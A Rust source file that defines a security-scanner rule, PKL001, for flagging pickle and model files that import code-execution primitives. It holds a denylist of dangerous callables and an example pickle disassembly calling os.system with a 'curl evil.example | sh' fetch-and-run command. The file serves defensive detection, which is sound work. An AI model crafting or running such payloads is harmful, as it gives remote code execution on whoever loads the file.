//! PKL001: a pickle imports a known code-execution primitive.

sg_diagnostics::declare_rule! {
    /// ## What it does
    /// Reports a pickle (or a pickle inside a model file) that imports a callable on
    /// snakeguard's denylist: code execution (`builtins.eval`, `exec`), shells (`os.system`,
    /// `subprocess`), import machinery (`importlib`, `pkgutil.resolve_name`, `runpy`),
    /// indirection (`getattr`, `operator.attrgetter`, `functools.partial`), nested
    /// deserialization (`pickle.loads`, `torch.load`), profilers and debuggers (`cProfile`,
    /// `pdb`), package installers (`pip.main`), file and network access, or an attribute walk
    /// into such a module (`posixpath` + `os.system`).
    ///
    /// The verdict is decided by the allowlist: this rule only names the danger and sets the
    /// severity. Everything that is neither allowlisted nor on this list is PKL002.
    ///
    /// ## Why is this bad?
    /// `pickle.load`, `torch.load(weights_only=False)` and `joblib.load` import and call these
    /// globals while loading. A model file that imports `os.system` runs a shell command on the
    /// machine of whoever loads it.
    ///
    /// ## Example
    /// A pickle whose disassembly contains:
    /// ```text
    ///  2: c    GLOBAL  'os system'
    /// 13: (    MARK
    /// 14: V    UNICODE 'curl evil.example | sh'
    /// 37: t    TUPLE
    /// 38: R    REDUCE
    /// ```
    ///
    /// Use instead: do not load the file. Ask for weights in a format that cannot run code
    /// (safetensors), or load with `torch.load(path, weights_only=True)`.
    ///
    /// ## References
    /// - <https://docs.python.org/3/library/pickle.html#restricting-globals>
    /// - <https://huggingface.co/docs/hub/security-pickle>
    /// - <https://cwe.mitre.org/data/definitions/502.html>
    pub static DANGEROUS_IMPORT: Rule {
        code: "PKL001",
        name: "pickle-dangerous-import",
        scanner: Pickle,
        severity: Critical,
        confidence: High,
        cwe: Some(502),
        summary: "Pickle imports a callable that can run code, commands, or touch files or the network",
    }
}
